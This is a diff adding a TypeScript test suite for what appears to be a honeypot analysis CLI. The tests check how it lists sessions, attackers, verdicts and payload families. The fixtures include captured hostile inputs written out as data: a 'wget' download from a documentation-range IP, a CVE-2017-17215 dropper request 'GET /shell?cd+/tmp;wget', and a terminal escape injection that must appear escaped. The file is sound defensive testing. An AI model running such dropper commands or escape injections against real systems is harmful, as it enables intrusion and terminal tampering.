@@ -1,0 +1,153 @@
+// The verbs that show what analysis found, as whole commands: what people read, what machines read, hostile text harmless.
+
+import assert from 'node:assert/strict';
+import { after, beforeEach, describe, it } from 'node:test';
+import { CommandBed, now } from '../../test/support/command-bed.ts';
+import { sampleInsights } from '../../test/support/sample-insights.ts';
+import { sampleId } from '../../test/support/sample-records.ts';
+
+const lines = (out: string): string[] => out.trimEnd().split('\n');
+const objects = (out: string) => lines(out).map((line) => JSON.parse(line));
+
+describe('what analysis found', () => {
+  const bed = new CommandBed();
+  beforeEach(async () => {
+    await bed.reset();
+    await bed.store?.apply([], {}, sampleInsights(now));
+  });
+  after(() => bed.close());
+
+  it('marks sessions with the rules they matched and where they came from', async () => {
+    const { out } = await bed.run('sessions');
+    const [titles, ...rows] = lines(out);
+    assert.match(titles, /SOURCE +FROM +DECOY .* END +MARKS +FIRST BYTES$/);
+    assert.match(
+      rows.find((row) => row.includes('2001:db8::7')) ?? '',
+      / NL +\S+ .*shell-command-download web-shell-path +GET \/shell/,
+    );
+    assert.match(rows.find((row) => row.includes('dns')) ?? '', / DE .* - +\\x124/);
+    const [document] = objects((await bed.run('sessions --json --source 2001:db8::7')).out);
+    assert.deepEqual(document.source.geo, { country_iso_code: 'NL' });
+    assert.deepEqual(document.source.as, { number: 64_500, organization: { name: 'Example Net' } });
+    assert.deepEqual(document.rule.id, ['shell-command-download', 'web-shell-path']);
+    assert.deepEqual(document.threat.technique.id, ['T1190', 'T1105']);
+    assert.deepEqual(document.vulnerability.id, ['CVE-2017-17215']);
+    assert.deepEqual(document.weir.tags, ['iot', 'dropper', 'web']);
+    assert.equal(document.weir.payload.family, '3fa90c11d2e4b5a6');
+    assert.equal(document.weir.facts, undefined, 'lists leave facts out');
+  });
+
+  it('shows what one session matched and held, and the verdicts it is part of', async () => {
+    const id = sampleId(now - 300e6, 2);
+    const { out } = await bed.run(`session ${id}`);
+    assert.match(out, /^ {2}place {7}NL, AS64500 Example Net$/m);
+    assert.match(out, /^ {2}CVE {9}CVE-2017-17215$/m);
+    assert.match(
+      out,
+      /^Signatures\n {2}high {4}shell-command-download {2}Download by a shell command\n {10}url http:\/\/198\.51\.100\.1\/x$/m,
+    );
+    assert.match(out, /^Facts\n {2}url {11}http:\/\/198\.51\.100\.1\/x\n {2}command {7}wget http:\/\/198\.51\.100\.1\/x$/m);
+    assert.match(out, /^Part of\n {2}high {4}exploitation {2}matched shell-command-download$/m);
+    const stored = JSON.parse((await bed.run(`session ${id} --json`)).out);
+    assert.equal(stored.verdicts[0].weir.verdict.behaviour, 'exploitation');
+    assert.deepEqual(stored.session.weir.signatures[0].captures, { url: 'http://198.51.100.1/x' });
+    assert.deepEqual(stored.session.weir.facts[0], { kind: 'url', value: 'http://198.51.100.1/x' });
+  });
+
+  it('lists attackers, and one on a page', async () => {
+    const { out, err } = await bed.run('attackers');
+    assert.match(
+      lines(out)[0],
+      /^SOURCE +IN +LAST SEEN +AGO +FOR +SESSIONS +PROBES +PORTS +DECOYS +BEHAVIOUR +TOOLS +SIGNATURES, NETWORK$/,
+    );
+    const row = lines(out).find((line) => line.startsWith('2001:db8::7')) ?? '';
+    assert.match(
+      row,
+      /^2001:db8::7 +NL +05:01:07 +5m .* 1 +0 +1 +1 +exploitation +- +.*shell-command-download.*; AS64500 Example Net$/,
+    );
+    assert.match(err, /3 sources; one in full: weir attacker \S+/);
+    const [newest] = objects((await bed.run('attackers --by newest --json')).out);
+    assert.equal(newest.source.ip, '203.0.113.9');
+    const page = (await bed.run('attacker 2001:DB8::7')).out;
+    assert.match(
+      page,
+      /^Attacker 2001:db8::7\n {2}place {7}NL, AS64500 Example Net\n {2}first seen {2}2026-03-04 05:01:07\.000 UTC$/m,
+    );
+    assert.match(page, /^ {2}touched {5}1 session, 0 probes: 1 port of 1 decoy, \d+ B sent$/m);
+    assert.match(
+      page,
+      /^Behaviour\n {2}high {4}exploitation \(certain\) {2}05:01:07 UTC for 1\.0 s, at \[2001:db8:66::4\]:80\/tcp, T1190, CVE-2017-17215\n {10}matched shell-command-download$/m,
+    );
+    assert.match(page, /^Ports\n +1 {2}80\/tcp +http$/m);
+    assert.match(page, /^What its payloads hold\n(.*\n)? +1 +(url|command) +/m);
+    assert.match(page, /^Payload families\n {2}3fa90c11d2e4b5a6 {2}HTTP GET \/shell\n +GET \/shell\?cd\+\/tmp;wget/m);
+    const json = JSON.parse((await bed.run('attacker 2001:db8::7 --json')).out);
+    assert.equal(json.attacker.source.geo.country_iso_code, 'NL');
+    assert.equal(json.families[0].label, 'HTTP GET /shell');
+    const absent = await bed.run('attacker 192.0.2.77');
+    assert.equal(absent.code, 1);
+    assert.match(absent.err, /nothing of 192\.0\.2\.77 is recorded \(not-found\)/);
+    assert.equal((await bed.run('attacker nobody')).code, 2);
+  });
+
+  it('lists verdicts with their evidence, of the kinds asked for', async () => {
+    const { out } = await bed.run('verdicts');
+    assert.match(lines(out)[0], /^TIME \(UTC\) +AGO +SEVERITY +BEHAVIOUR +SURE +SOURCE +IN +AT +TOOL +EVIDENCE$/);
+    assert.equal(lines(out).length, 4);
+    assert.match(
+      out,
+      /medium +port-scan +certain +198\.51\.100\.7 +- +10\.66\.3\.4 +ZMap +118 ports of 10\.66\.3\.4 in 42 s; 15 in 5 minutes are a scan \(\+1\)/,
+    );
+    assert.match(out, /medium +brute-force +certain +203\.0\.113\.9 +DE +port 22\/tcp/);
+    const only = objects((await bed.run('verdicts --behaviour port-scan,sweep --json')).out);
+    assert.deepEqual(
+      only.map(({ weir }) => weir.verdict.behaviour),
+      ['port-scan'],
+    );
+    assert.equal(only[0].event.dataset, 'weir.verdict');
+    assert.deepEqual(only[0].threat.technique.id, ['T1046']);
+    const wrong = await bed.run('verdicts --behaviour evil');
+    assert.equal(wrong.code, 2);
+    assert.match(wrong.err, /behaviour: 'evil' is none of port-scan, /);
+    const exported = objects((await bed.run('export jsonl --kinds verdicts')).out);
+    assert.deepEqual(
+      exported.map(({ event }) => event.action),
+      ['brute-force', 'port-scan', 'exploitation'],
+    );
+  });
+
+  it('ranks what analysis found; payloads by family, with an example', async () => {
+    const payloads = (await bed.run('top payloads')).out;
+    assert.match(lines(payloads)[0], /^# +PAYLOAD FAMILY +HITS +SOURCES +LIKE$/);
+    assert.match(lines(payloads)[1], /^1 +3fa90c11d2e4b5a6 +1 +1 +█+ +HTTP GET \/shell: GET \/shell\?cd/);
+    assert.match((await bed.run('top countries')).out, /^1 +DE +4 +1 /m);
+    assert.match((await bed.run('top asns')).out, /AS64500 Example Net +1 +1 /);
+    assert.match((await bed.run('top signatures')).out, /shell-command-download +1 +1 /);
+    assert.match((await bed.run('top hashes')).out, /^# +PAYLOAD SHA-256/);
+    const [family] = objects((await bed.run('top payloads --json')).out);
+    assert.equal(family.label, 'HTTP GET /shell');
+    assert.match(Buffer.from(family.example, 'base64').toString(), /^GET \/shell/);
+  });
+
+  it('never lets attacker text reach the terminal unescaped', async () => {
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not appear
+    const colours = /\u001b\[(1|2|22|31|32|33|36|39)m/g;
+    const hostile = sampleId(now - 60e6, 5);
+    for (const line of [
+      'sessions',
+      `session ${hostile}`,
+      'attackers',
+      'attacker 203.0.113.9',
+      'verdicts',
+      'top asns',
+      'top user-agents',
+      'top behaviours',
+    ]) {
+      const { out, code } = await bed.run(line, { terminal: true });
+      assert.equal(code, 0, line);
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not appear
+      assert.doesNotMatch(out.replaceAll(colours, ''), /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, line);
+    }
+    assert.match((await bed.run('attacker 203.0.113.9')).out, /\\x1b\]0;owned/);
+  });
+});
